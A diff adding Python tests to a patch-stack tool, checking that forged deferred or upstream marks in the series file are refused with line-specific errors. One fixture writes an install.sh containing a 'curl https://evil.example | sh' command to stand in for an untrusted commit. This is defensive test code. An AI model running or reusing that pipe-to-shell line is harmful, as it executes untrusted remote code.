@@ -145,3 +145,80 @@ def test_push_of_a_deferred_patch_now_a_knock_on_is_refused_not_ok(tmp_path: Pat
     assert "p1.patch was not applied" in refused.stderr and "p0.patch" in refused.stderr
     assert "'patchstack push p0.patch' first" in refused.stderr
     assert repo.state() == before
+
+
+# Issue 34, items 1 and 2: the series' marks are claims, checked where they are used.
+
+
+def two_patches(tmp_path: Path) -> tuple[Repo, str]:
+    """p1 edits a.txt, p2 edits b.txt; a side branch holds an unrelated commit E that adds
+    install.sh. Returns (repo, E)."""
+    repo = make_repo(tmp_path / "fork", {"a.txt": numbered(10, "a"), "b.txt": numbered(10, "b")})
+    base = repo.head()
+    repo.ps("init")
+    replace_line(repo, "a.txt", "a 3\n", "a 3 mine\n")
+    repo.ps("new", "p1", "-t", "essential", "a.txt")
+    replace_line(repo, "b.txt", "b 5\n", "b 5 mine\n")
+    repo.ps("new", "p2", "-t", "essential", "b.txt")
+    repo.git("checkout", "-q", "-b", "evil", base)
+    repo.write("install.sh", "curl https://evil.example | sh\n")
+    repo.commit_all("evil")
+    evil = repo.head()
+    repo.git("checkout", "-q", "main")
+    return repo, evil
+
+
+def insert_line(repo: Repo, after: int, text: str) -> int:
+    """Insert ``text`` into the series file after line ``after``; its line number."""
+    lines = repo.read("patches/series").splitlines(True)
+    lines.insert(after, text + "\n")
+    repo.write("patches/series", "".join(lines))
+    return after + 1
+
+
+def test_a_forged_deferred_mark_is_refused_naming_its_line(tmp_path: Path) -> None:
+    repo, evil = two_patches(tmp_path)
+    repo.ps("pop")
+    line = insert_line(repo, 2, f"# deferred: p2.patch {evil}")
+    before = repo.state()
+    refused = repo.ps("push", "p2.patch", code=2)
+    assert f"patches/series:{line}: the deferred mark of p2.patch" in refused.stderr
+    assert f"sed -i '{line}d' patches/series" in refused.stderr
+    assert repo.state() == before
+    assert not (repo.path / "install.sh").exists()
+
+
+def test_a_forged_upstream_mark_is_refused_naming_its_line(tmp_path: Path) -> None:
+    repo, evil = two_patches(tmp_path)
+    root = repo.git("rev-list", "--max-parents=0", "HEAD").strip()
+    for forged in (evil, root):
+        saved = repo.read("patches/series")
+        line = insert_line(repo, 2, f"# upstream: p2.patch {forged}")
+        refused = repo.ps("check", code=2)
+        assert f"patches/series:{line}: the upstream mark of p2.patch" in refused.stderr
+        assert "patchstack refresh" in refused.stderr  # the repair
+        repo.write("patches/series", saved)
+
+
+def test_an_upstream_mark_naming_a_commit_that_did_not_bring_it_is_refused(tmp_path) -> None:
+    """Upstream takes p2 verbatim: the refresh marks it, in that commit; a mark naming
+    another upstream commit (one the base holds) is refused."""
+    repo, _evil = two_patches(tmp_path)
+    base = repo.git("rev-parse", "HEAD~2").strip()
+    repo.git("checkout", "-q", "-b", "up", base)
+    replace_line(repo, "b.txt", "b 5\n", "b 5 mine\n")
+    took = repo.commit_all("upstream takes p2")
+    replace_line(repo, "a.txt", "a 8\n", "a 8 up\n")
+    other = repo.commit_all("upstream edits a 8")
+    repo.git("checkout", "-q", "main")
+    done = json.loads(repo.ps("refresh", "--onto", "up", "--json").stdout)
+    said = {p["name"]: p for p in done["patches"]}
+    assert said["p2.patch"]["verdict"] == "upstream"
+    assert said["p2.patch"]["evidence"]["commit"] == took
+    series = repo.read("patches/series")
+    assert f" in {took}\n" in series
+    assert verdicts(repo)["p2.patch"] == "upstream"  # the mark, proven, is used
+    repo.write("patches/series", series.replace(f" in {took}\n", f" in {other}\n"))
+    refused = repo.ps("check", code=2)
+    assert "the upstream mark of p2.patch" in refused.stderr
+    assert "did not bring its change" in refused.stderr
